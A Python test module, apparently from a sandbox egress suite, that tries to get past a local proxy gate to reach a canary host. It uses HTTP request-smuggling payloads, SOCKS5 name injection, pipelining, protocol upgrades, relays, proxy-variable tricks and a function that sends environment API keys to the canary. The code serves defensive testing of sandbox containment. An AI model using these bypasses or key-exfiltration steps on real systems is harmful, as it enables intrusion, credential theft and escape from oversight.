"""Attempts to make two parsers read two things: targets, SOCKS, smuggled and pipelined requests."""

from __future__ import annotations

import os
import socket
import threading
import urllib.request

from km_core.attack.inside.base import TIMEOUT_S, Args, attempt, held, say, talk

GATE = ("127.0.0.1", 3128)
CRLF = b"\r\n"


def _status(answer: bytes) -> int:
    words = answer.split(b" ", 2)
    return int(words[1]) if len(words) > 1 and words[1].isdigit() else 0


def gate_answers(args: Args) -> None:  # noqa: ARG001 - every attempt takes them
    """Ask the gate, as a proxy, for what it always gives."""
    answer = talk(*GATE, b"GET http://km.internal/ HTTP/1.1\r\nHost: km.internal\r\n\r\n")
    held("the gate answers", _status(answer) == 200, answer[:40].decode("latin-1"))


def targets(args: Args) -> None:
    """Ask the gate as a proxy for each form of the canary's address, by CONNECT and by absolute URI."""
    token = args["token"]

    def connect(form: str) -> None:
        target = form.encode("utf-8")
        answer = talk(*GATE, b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n", token)
        held(f"CONNECT {form!r}", _status(answer) != 200, answer[:60].decode("latin-1"))

    def absolute(form: str) -> None:
        target = form.encode("utf-8")
        talk(*GATE, b"GET http://" + target + b"/" + token + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n")

    def dial(form: str) -> None:
        host, _, port = form.rpartition(":")
        talk(host.strip("[]"), int(port), token)

    for form in args["forms"]:
        attempt(f"CONNECT {form!r}", connect, form)
        attempt(f"GET {form!r}", absolute, form)
        attempt(f"dial {form!r}", dial, form)


def unlisted(args: Args) -> None:
    """Ask the gate to connect to names and addresses that nothing allows: no 200 may come back."""

    def one(target: str) -> None:
        raw = target.encode()
        answer = talk(*GATE, b"CONNECT " + raw + b" HTTP/1.1\r\nHost: " + raw + b"\r\n\r\n")
        held(f"CONNECT {target}", 400 <= _status(answer) < 600 or not answer, answer[:40].decode("latin-1"))

    for target in args["targets"]:
        attempt(target, one, target)


def socks(args: Args) -> None:
    """SOCKS5 requests (RFC 1928) whose name holds a NUL or a line break before an allowed ending."""
    port = args["tcp_ports"][0]
    for address in args["addresses"]:
        for filler in (b"", b"\0." + args["suffix"].encode(), b"\r\nX: ." + args["suffix"].encode()):
            name = address.encode() + filler
            ask = b"\x05\x01\x00\x03" + bytes([len(name)]) + name + port.to_bytes(2, "big")
            attempt(repr(name), talk, *GATE, b"\x05\x01\x00", ask, args["token"])


def _smuggled(host: str, path: bytes) -> list:  # type: ignore[type-arg] # python3 inside may be old
    inner = (
        b"GET http://" + host.encode() + b"/" + path + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n"
    )
    start = b"POST http://km.internal/ HTTP/1.1\r\nHost: km.internal\r\n"
    chunk = b"0\r\n\r\n" + inner
    length = str(len(chunk)).encode()
    return [
        (
            "content-length and chunked",
            start + b"Content-Length: " + length + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk,
        ),
        (
            "chunked twice",
            start + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + chunk,
        ),
        ("chunked after a tab", start + b"Transfer-Encoding:\tchunked\r\nContent-Length: 5\r\n\r\n" + chunk),
        (
            "space before the colon",
            start + b"Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n" + chunk,
        ),
        ("xchunked", start + b"Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + inner),
        ("two lengths", start + b"Content-Length: 0\r\nContent-Length: " + length + b"\r\n\r\n" + chunk),
        ("signed length", start + b"Content-Length: +0\r\n\r\n" + inner),
        ("bare line feeds", (start + b"Content-Length: 0\r\n\r\n").replace(CRLF, b"\n") + inner),
        ("folded field", start + b"X: a\r\n Content-Length: 0\r\n\r\n" + inner),
        (
            "two hosts",
            b"GET / HTTP/1.1\r\nHost: km.internal\r\nHost: "
            + host.encode()
            + b"\r\nX-Path: "
            + path
            + b"\r\n\r\n",
        ),
        (
            "other host",
            b"GET http://km.internal/" + path + b" HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n",
        ),
        (
            "trailers",
            start + b"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: " + host.encode() + b"\r\n\r\n" + inner,
        ),
        ("chunk extension", start + b'Transfer-Encoding: chunked\r\n\r\n0;a="\n"\r\n\r\n' + inner),
        ("HTTP/0.9", b"GET http://" + host.encode() + b"/" + path + b"\r\n\r\n"),
    ]


def smuggling(args: Args) -> None:
    """Requests to the inside API that hide another one, for the canary."""
    for address in args["addresses"]:
        host = f"[{address}]" if ":" in address else address
        for what, raw in _smuggled(f"{host}:{args['tcp_ports'][0]}", args["token"]):
            attempt(f"{what} {address}", talk, *GATE, raw)


def keep_alive(args: Args) -> None:
    """A second request on a connection whose first one was allowed, pipelined and after the answer."""
    first = b"GET http://km.internal/ HTTP/1.1\r\nHost: km.internal\r\n\r\n"
    for address in args["addresses"]:
        host = (f"[{address}]" if ":" in address else address).encode() + b":%d" % args["tcp_ports"][0]
        for second in (
            b"GET http://" + host + b"/" + args["token"] + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n",
            b"GET /" + args["token"] + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n",
            b"CONNECT " + host + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n" + args["token"],
        ):
            attempt(f"pipelined {address}", talk, *GATE, first + second)
            attempt(f"after {address}", talk, *GATE, first, second)


def upgrades(args: Args) -> None:
    """Protocol upgrades on an allowed connection, then a request for the canary: never 101, never HTTP/2."""
    ask = b"GET http://km.internal/ HTTP/1.1\r\nHost: km.internal\r\nConnection: Upgrade"
    key = b"\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    starts = {
        "websocket": ask + b"\r\nUpgrade: websocket" + key,
        "h2c": ask + b", HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAA\r\n\r\n",
        "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0",
    }

    def one(what: str, start: bytes, inner: bytes) -> None:
        answer = talk(*GATE, start, inner)
        refused = not answer.startswith(b"HTTP/1.1 101") and not answer.startswith(b"\0\0")
        held(what, refused, answer[:40].decode("latin-1"))

    for address in args["addresses"]:
        host = (f"[{address}]" if ":" in address else address).encode() + b":%d" % args["tcp_ports"][0]
        inner = b"GET http://" + host + b"/" + args["token"] + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"
        for what, start in starts.items():
            attempt(what, one, what, start, inner)


def relay(args: Args) -> None:
    """Ask the gate through a listener of the sandbox's own: who asks must not matter."""

    def serve(listener: socket.socket) -> None:
        conn, _ = listener.accept()
        with conn, socket.create_connection(GATE, TIMEOUT_S) as out:
            conn.settimeout(TIMEOUT_S)
            out.settimeout(TIMEOUT_S)
            out.sendall(conn.recv(4096))
            conn.sendall(out.recv(4096))
            out.sendall(conn.recv(4096))

    def one(address: str, port: int) -> None:
        host = f"[{address}]" if ":" in address else address
        with socket.socket() as listener:
            listener.bind(("127.0.0.1", 0))
            listener.listen(1)
            threading.Thread(target=lambda: attempt("relay", serve, listener), daemon=True).start()
            ask = f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()
            answer = talk("127.0.0.1", listener.getsockname()[1], ask, args["token"])
            held(f"CONNECT {host}:{port}", _status(answer) != 200, answer[:40].decode("latin-1"))

    for address in args["addresses"]:
        attempt(address, one, address, args["tcp_ports"][0])


def variables(args: Args) -> None:
    """Requests of a client that is told by variables to use no proxy, another one, or none at all."""
    for name in [name for name in os.environ if name.lower().endswith("_proxy")]:
        del os.environ[name]

    def fetch(settings: dict, address: str) -> None:  # type: ignore[type-arg] # python3 inside may be old
        host = f"[{address}]" if ":" in address else address
        opener = urllib.request.build_opener(urllib.request.ProxyHandler(settings))
        url = f"http://{host}:{args['tcp_ports'][0]}/{args['token'].decode()}"
        try:
            opener.open(url, timeout=TIMEOUT_S).close()
        except OSError as error:
            say(url=url, error=str(error)[:100])

    for address in args["addresses"]:
        host = f"[{address}]" if ":" in address else address
        other = f"http://{host}:{args['tcp_ports'][0]}"
        attempt(f"no proxy {address}", fetch, {}, address)
        attempt(f"other proxy {address}", fetch, {"http": other, "https": other}, address)


def base_url(args: Args) -> None:
    """Point model clients at the canary, with the key that stands in the environment."""
    keys = [v for k, v in os.environ.items() if k.endswith(("_API_KEY", "_AUTH_TOKEN"))] or ["none"]
    for address in args["addresses"]:
        host = f"[{address}]" if ":" in address else address
        raw = f"POST /v1/messages?{args['token'].decode()} HTTP/1.1\r\nHost: api.anthropic.com\r\n"
        raw += f"x-api-key: {keys[0]}\r\nContent-Length: 2\r\n\r\n{{}}"
        for port in args["tcp_ports"]:
            attempt(host, talk, address, port, raw.encode())


def schemes(args: Args) -> None:
    """Absolute URIs of other schemes and forms: the same decision as for CONNECT."""
    token = args["token"].decode()
    for address in args["addresses"]:
        host = f"[{address}]" if ":" in address else address
        where = f"{host}:{args['tcp_ports'][0]}"
        for line in (
            f"GET https://{where}/{token}",
            f"GET ftp://{where}/{token}",
            f"GET //{where}/{token}",
            f"GET {where}/{token}",
            f"GET http:{where}/{token}",
            f"GET HTTP://{where}/{token}",
            f"GET http://km.internal@{where}/{token}",
            f"GET http://{where}#km.internal/{token}",
            f"OPTIONS http://{where}/{token}",
            f"TRACE http://{where}/{token}",
        ):
            raw = f"{line} HTTP/1.1\r\nHost: {where}\r\n\r\n".encode()
            attempt(line, talk, *GATE, raw)


def http_direct(args: Args) -> None:
    """Dial the canary and name an allowed host in the request."""
    raw = b"GET /" + args["token"] + b" HTTP/1.1\r\nHost: km.internal\r\n\r\n"
    for address in args["addresses"]:
        for port in args["tcp_ports"]:
            attempt(f"{address}:{port}", talk, address, port, raw)


def _forbidden(address: str, port: int, request: bytes) -> None:
    answer = talk(address, port, request)
    what = request.split(b" HTTP/")[0].decode("latin-1")
    held(f"{what} by {address}", _status(answer) == 403, answer[:40].decode("latin-1"))


def plain_to_intercepted(args: Args) -> None:
    """Ask a host whose TLS the gate opens over plain HTTP, by URI and by dialling it: never carried out."""
    host = args["ai"].encode()
    for path in (b"/v1/files", b"/v1/messages"):
        head = b" HTTP/1.1\r\nHost: " + host + b"\r\nx-api-key: " + args["token"] + b"\r\n\r\n"
        for method in (b"GET ", b"POST "):
            attempt("by URI", _forbidden, *GATE, method + b"http://" + host + path + head)
            attempt("dialled", _forbidden, args["ai"], 80, method + path + head)


def other_host(args: Args) -> None:
    """Dial the canary and name an allowed host; dial an allowed host and name the canary."""
    for address in args["addresses"]:
        host = f"[{address}]" if ":" in address else address
        for port in args["tcp_ports"]:
            for name in ("km.internal", args["allowed"] or "km.internal"):
                raw = f"GET /{args['token'].decode()} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()
                attempt(f"{address} as {name}", talk, address, port, raw)
            raw = f"GET /{args['token'].decode()} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()
            attempt(f"km.internal as {host}", talk, "198.18.0.1", 80, raw)
